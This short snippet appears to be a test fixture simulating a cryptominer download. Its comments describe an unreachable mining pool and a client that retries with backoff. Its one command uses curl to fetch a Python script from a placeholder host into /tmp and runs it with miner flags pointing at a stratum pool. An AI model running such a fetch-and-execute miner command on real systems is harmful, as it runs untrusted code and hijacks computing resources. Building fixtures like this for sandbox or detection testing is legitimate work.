# the pool never answers a connect; the downloaded client gives up after a growing time and tries again
#http 203.0.113.61:8011
#pool 198.51.100.98:443:full
curl -so /tmp/k http://203.0.113.61:8011/backoff.py; timeout 16 python3 /tmp/k --algo rx/0 --donate-level 1 -o stratum+tcp://198.51.100.98:443
